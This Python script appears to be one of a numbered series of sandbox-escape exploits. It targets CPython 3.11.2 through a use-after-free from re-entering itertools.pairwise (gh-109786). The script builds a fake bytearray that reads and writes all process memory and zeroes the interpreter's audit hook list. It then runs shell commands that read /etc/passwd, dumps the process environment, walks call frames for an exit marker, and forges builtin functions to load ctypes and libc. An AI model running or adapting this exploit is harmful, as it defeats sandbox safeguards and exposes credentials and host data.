# family: wall (memory: gh-109786, itertools.pairwise re-entered from its source)   goal: id   interpreter: /usr/bin/python3
# FULL ESCAPE: itertools.pairwise re-entrancy use-after-free -> raw memory -> audit hook list emptied
#
# Family: memory safety of CPython 3.11.2 (not gh-120384, no array, no ctypes, no frame trick).
# Mechanism: itertools.pairwise re-entered from its own iterator's __next__ (gh-109786, fixed
#   in 3.11.7 / 3.12.1; the image's 3.11.2 has it). The outer pairwise_next keeps `old`
#   (po->old) borrowed while it calls the iterator; the re-entrant next(p) replaces
#   po->old and the program drops the inner result tuple: `old` (a fresh 68-byte int) is
#   freed; the program takes its 80-byte block back with a bytearray's 73-byte buffer
#   holding a fake PyByteArrayObject (ob_type = id(bytearray), ob_size = 2**62,
#   ob_start = NULL); the outer call then packs the dangling pointer into the tuple it
#   returns: r[0] is a bytearray viewing all memory from address 0, with no audit event.
#   Then as wall7 ok_05: id(type) + constant = the main interpreter (PIE moves the binary
#   as a whole); its audit_hooks list (one function named "hook") gets ob_size 0: the

import itertools, sys
import asyncio
os = sys.modules["os"]
keep = []
BASE = 1 << 280
def raw_memory():
    """itertools.pairwise re-entered from its iterator's __next__ (gh-109786): the outer
    call packs its `old`, freed meanwhile by the inner call, into the tuple it returns.
    Its 80-byte block is taken back by a bytearray's buffer holding a fake bytearray
    header: length 2**62, data at address 0."""
    W = lambda v: v.to_bytes(8, "little")
    fake = (W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62) + W(0) + W(0) + W(1)
            + bytes(16))                      # 72 bytes: a 73-byte buffer, A's size class
    class It:
        n = 0
        def __iter__(s): return s
        def __next__(s):
            s.n += 1
            if s.n == 1:
                return BASE + s.n
            if s.n == 2:
                t = next(p)
                del t
                keep.append(bytearray(fake)) # the buffer takes A's block
                return "C"
            return "B"
    p = itertools.pairwise(It())
    r = next(p)
    keep.append((r, p))
    return r[0]
mem = raw_memory()
print(type(mem).__name__, "of", hex(len(mem)), "bytes at address 0", flush=True)
rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
OFF_RT, OFF_INTERP, OFF_HOOKS = 1060224, 58936, (3552, 3880)
interp = id(type) + OFF_RT + OFF_INTERP
for off in OFF_HOOKS:
    lst = rd(interp + off)
    if not lst or rd(lst + 8) != id(list) or rd(lst + 16) != 1:
        continue
    fn = rd(rd(lst + 24))
    if rd(fn + 8) != id(type(raw_memory)):
        continue
    name = rd(fn + 32)
    text = bytes(mem[name + 48:name + 48 + rd(name + 16)])
    print("interp+%d: the interpreter's audit hooks: [function %r]" % (off, text))
    if text == b"hook":
        mem[lst + 16:lst + 24] = bytes(8)
        print("audit hook list emptied", flush=True)
os.system("id; head -2 /etc/passwd")
print(open("/proc/self/environ", "rb").read().replace(b"\0", b" "))
socket = sys.modules["socket"]
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); print("AF_INET socket:", s)
f = sys._getframe(0)
while f.f_back is not None:
    f = f.f_back
    print("frame:", f.f_code.co_name, "| globals:", f.f_globals.get("__file__"), "WALL_EXIT" in f.f_globals)
_imp = sys.modules["_imp"]
def entry(name):
    ml0 = rd(id(_imp.is_builtin) + 16)
    for k in range(0, 16):
        p = rd(ml0 + 32 * k)
        if p == 0:
            return None
        if bytes(mem[p:p + len(name) + 1]) == name + b"\0":
            return ml0 + 32 * k
keepalive = []
def forge(model, name):
    buf = bytearray(16) + bytearray(mem[id(model):id(model) + 56])
    buf[16:24] = (1 << 40).to_bytes(8, "little")
    buf[32:40] = entry(name).to_bytes(8, "little")
    keepalive.append(buf)
    addr = rd(id(buf) + 32) + 16                    # the bytearray's ob_start + 16
    holder = [None]
    mem[rd(id(holder) + 24):rd(id(holder) + 24) + 8] = addr.to_bytes(8, "little")
    return holder[0]
_imp.create_dynamic = forge(_imp._fix_co_filename, b"create_dynamic")
_imp.exec_dynamic = forge(_imp.is_builtin, b"exec_dynamic")
ctypes = sys.modules["importlib"].import_module("ctypes")
libc = ctypes.CDLL("libc.so.6")
print("ctypes loaded, libc getpid() =", libc.getpid(), "getuid() =", libc.getuid())
sys.stdout.flush()
os._exit(0)
